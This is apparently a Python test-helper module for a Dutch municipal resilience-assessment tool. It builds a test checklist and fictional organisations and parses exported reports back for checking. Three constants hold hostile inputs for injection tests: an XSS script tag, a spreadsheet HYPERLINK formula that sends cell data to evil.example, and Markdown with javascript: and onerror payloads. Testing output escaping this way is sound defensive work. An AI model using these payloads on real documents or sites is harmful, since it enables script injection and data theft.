"""Helpers for the aggregate, demo and report tests: a checklist of our own and a small province."""

from __future__ import annotations

import re
from pathlib import Path

from norm.checklist import Checklist, parse_checklist
from norm.store import Store

FIXED_TIME = "2026-11-22T10:00:00Z"


def fixed_clock() -> str:
    return FIXED_TIME


def _item(code: str, title: str, kind: str, target: int, applies: list[str], *, basisnorm: bool = False,
          weight: float = 1.0) -> dict:
    return {
        "code": code,
        "title": title,
        "statement": f"Wij hebben {title.lower()} op orde.",
        "toelichting": f"Leg {title.lower()} vast en evalueer het jaarlijks met het RIEC.",
        "evidence": "Vastgesteld document.",
        "kind": kind,
        "applies_to": applies,
        "weight": weight,
        "target": target,
        "basisnorm": basisnorm,
        "source": {"document": "testbron", "section": "1"},
    }


ALL = ["gemeente", "provincie", "waterschap", "riec", "omgevingsdienst"]
GOV = ["gemeente", "provincie", "waterschap"]

CHECKLIST_DATA: dict = {
    "id": "testnorm",
    "version": "1.0",
    "title": "Testnorm weerbaarheid",
    "sources": [{"id": "testbron", "title": "Testbron"}],
    "scale": [
        {"value": 0, "label": "Ontbreekt", "description": "Ontbreekt."},
        {"value": 1, "label": "In ontwikkeling", "description": "In ontwikkeling."},
        {"value": 2, "label": "Uitgevoerd", "description": "Uitgevoerd."},
        {"value": 3, "label": "Geborgd", "description": "Geborgd."},
    ],
    "tiers": [
        {"id": "start", "name": "Start", "description": "Begin.", "rule": []},
        {"id": "basis", "name": "Basis op orde", "description": "Basisnorm gehaald.",
         "rule": [{"scope": "basisnorm", "min_level": 2, "min_share": 1.0}]},
        {"id": "geborgd", "name": "Geborgd", "description": "Veel geborgd.",
         "rule": [{"scope": "basisnorm", "min_level": 2, "min_share": 1.0},
                  {"scope": "all", "min_level": 3, "min_share": 0.6}]},
    ],
    "themes": [
        {"code": "EO", "title": "Eigen organisatie", "items": [
            _item("T-EO-01", "Bewustwording", "uitvoering", 2, ALL, basisnorm=True, weight=2),
            _item("T-EO-02", "Screening kwetsbare functies", "beleid", 2, ALL, basisnorm=True),
            _item("T-EO-03", "Intern meldpunt", "beleid", 3, ALL),
        ]},
        {"code": "BH", "title": "Beleid en handhaving", "items": [
            _item("T-BH-01", "Bibob-beleid", "beleid", 2, GOV, basisnorm=True),
            _item("T-BH-02", "Integrale controles", "handhaving", 2, ["gemeente"]),
            _item("T-BH-03", "Vakantieparken", "handhaving", 2, ["gemeente", "provincie"]),
        ]},
        {"code": "SA", "title": "Samenwerking", "items": [
            _item("T-SA-01", "Ondermijningstafel", "samenwerking", 2, ALL),
            _item("T-SA-02", "Informatiedeling RIEC", "samenwerking", 3, ALL),
        ]},
    ],
}


def test_checklist() -> Checklist:
    return parse_checklist(CHECKLIST_DATA, "testnorm.yaml")


# code, name, type, population, police district
ORGANISATIONS: list[tuple[str, str, str, int | None, str | None]] = [
    ("GM0001", "Aadorp", "gemeente", 12_000, "West"),
    ("GM0002", "Beekveld", "gemeente", 18_500, "West"),
    ("GM0003", "Celle", "gemeente", 26_000, "West"),
    ("GM0004", "Dijkhuizen", "gemeente", 33_000, "West"),
    ("GM0005", "Eemwaard", "gemeente", 45_000, "West"),
    ("GM0006", "Feldam", "gemeente", 61_000, "West"),
    ("GM0007", "Gooiburg", "gemeente", 9_000, "Oost"),
    ("GM0008", "Heuvelrode", "gemeente", 22_000, "Oost"),
    ("GM0009", "IJsselwaard", "gemeente", 38_000, "Oost"),
    ("GM0010", "Jutfaas", "gemeente", 48_000, "Oost"),
    ("GM0011", "Kromveen", "gemeente", 72_000, "Oost"),
    ("GM0012", "Leusdam", "gemeente", 95_000, "Oost"),
    ("GM0013", "Maarsburg", "gemeente", 350_000, "Stad"),
    ("PV99", "Provincie Testland", "provincie", None, None),
    ("W0001", "Waterschap Noord", "waterschap", None, None),
    ("W0002", "Waterschap Zuid", "waterschap", None, None),
    ("RIEC-T", "RIEC Testland", "riec", None, None),
    ("OD-T", "Omgevingsdienst Testland", "omgevingsdienst", None, None),
]


def make_store(path: Path, *, reference: bool = True) -> Store:
    """A store with the test checklist and the test organisations (marked as reference)."""
    store = Store(path, actor="tester", clock=fixed_clock)
    store.add_checklist(test_checklist())
    for code, name, org_type, population, district in ORGANISATIONS:
        attributes: dict = {}
        if population:
            attributes["population_2019"] = population
        if district:
            attributes["police_district"] = district
        store.upsert_organisation(code, name, org_type, attributes, reference=reference)
    return store


def answer_all(store: Store, assessment_id: int, levels: dict[str, int | str], default: int = 2) -> None:
    """Answer every applicable measure: a level, or n.v.t. when the value is a string (the reason)."""
    record = store.assessment(assessment_id)
    checklist = store.checklist(record.snapshot_id)
    for item in checklist.applicable_items(record.organisation_type):
        value = levels.get(item.code, default)
        if isinstance(value, str):
            store.set_answer(assessment_id, item.code, not_applicable=value)
        else:
            store.set_answer(assessment_id, item.code, level=value)


def submit(store: Store, code: str, period: str, sharing: str, levels: dict[str, int | str] | None = None,
           default: int = 2, checklist_id: str = "testnorm") -> int:
    """A definitive assessment with the given answers and sharing level."""
    assessment_id = store.new_assessment(code, checklist_id, period)
    answer_all(store, assessment_id, levels or {}, default)
    store.finalise(assessment_id, sharing=sharing, acknowledge_shortfalls=True)
    return assessment_id


def second_checklist() -> Checklist:
    """Another checklist (a scan), so demo data covers more than one."""
    data = {**CHECKLIST_DATA, "id": "testscan", "title": "Testscan kwetsbare processen", "tiers": []}
    data["themes"] = [
        {"code": "FIN", "title": "Financiën", "items": [
            _item("S-FIN-01", "Betaalcontrole", "uitvoering", 2, ALL, basisnorm=True),
            _item("S-FIN-02", "Subsidietoets", "beleid", 2, GOV),
        ]},
        {"code": "HRM", "title": "Personeel", "items": [
            _item("S-HRM-01", "Screening bij indiensttreding", "uitvoering", 2, ALL),
        ]},
    ]
    return parse_checklist(data, "testscan.yaml")


# -- reading the formats back ---------------------------------------------------------------------

HOSTILE_SCRIPT = '<script>alert("xss")</script>'
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
HOSTILE_MARKDOWN = "[klik](javascript:alert(1)) | **vet** <img src=x onerror=alert(1)>"


def html_tables(html: str) -> dict[str, list[list[str]]]:
    """Every grid/heatmap table in an HTML report: its <h3> title -> rows of cell texts."""
    from html.parser import HTMLParser

    class Parser(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tables: dict[str, list[list[str]]] = {}
            self.title = ""
            self.in_title = False
            self.row: list[str] | None = None
            self.cell: list[str] | None = None
            self.in_body = False
            self.skip = 0

        def handle_starttag(self, tag, attrs):
            classes = dict(attrs).get("class") or ""
            if tag == "h3":
                self.in_title, self.title = True, ""
            elif tag == "tbody":
                self.in_body = True
                self.tables[self.title] = []
            elif tag == "tr" and self.in_body:
                self.row = []
            elif tag in ("td", "th") and self.row is not None:
                self.cell = []
            elif tag == "span" and "n" in classes.split():
                self.skip += 1

        def handle_endtag(self, tag):
            if tag == "h3":
                self.in_title = False
            elif tag == "tbody":
                self.in_body = False
            elif tag == "tr" and self.row is not None:
                self.tables[self.title].append(self.row)
                self.row = None
            elif tag in ("td", "th") and self.cell is not None and self.row is not None:
                self.row.append(" ".join("".join(self.cell).split()))
                self.cell = None
            elif tag == "span" and self.skip:
                self.skip -= 1

        def handle_data(self, data):
            if self.in_title:
                self.title += data
            elif self.cell is not None and not self.skip:
                self.cell.append(data)

    parser = Parser()
    parser.feed(html)
    return parser.tables


def md_tables(markdown: str) -> dict[str, list[list[str]]]:
    """Every pipe table in a Markdown report: its ### title -> rows of cell texts (header excluded)."""
    tables: dict[str, list[list[str]]] = {}
    title = ""
    for line in markdown.splitlines():
        if line.startswith("### "):
            title = line[4:].strip()
            continue
        if line.startswith("|") and title:
            if re.fullmatch(r"\|(\s*:?-+:?\s*\|)+", line.strip()):
                continue  # the separator under the header
            cells = [c.strip() for c in line.strip().strip("|").split(" |")]
            tables.setdefault(title, []).append(cells)
    return {name: rows[1:] for name, rows in tables.items()}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    import csv
    import io

    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def xlsx_sheets(data: bytes) -> dict[str, list[list[object]]]:
    import io

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in workbook.worksheets}


def xlsx_text(data: bytes) -> str:
    """All XML inside an XLSX file, for searching."""
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(name).decode("utf-8") for name in sorted(archive.namelist()))


def docx_text(data: bytes) -> str:
    """The paragraphs and table cells of a DOCX file, read back with python-docx, one per line."""
    import io

    import docx

    word = docx.Document(io.BytesIO(data))
    lines = [paragraph.text for paragraph in word.paragraphs]
    lines += [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    return "\n".join(lines)


def shown_text(fmt: str, data: bytes) -> str:
    """The text a reader finds in a rendered report of format ``fmt`` (not PDF)."""
    import html

    if fmt == "xlsx":
        return xlsx_text(data)
    if fmt == "docx":
        return docx_text(data)
    return html.unescape(data.decode("utf-8"))


def csv_number(value: float) -> str:
    """How the CSV writes a percentage (value 0..1): one decimal, decimal comma."""
    text = f"{value * 100:.1f}".rstrip("0").rstrip(".")
    return text.replace(".", ",")
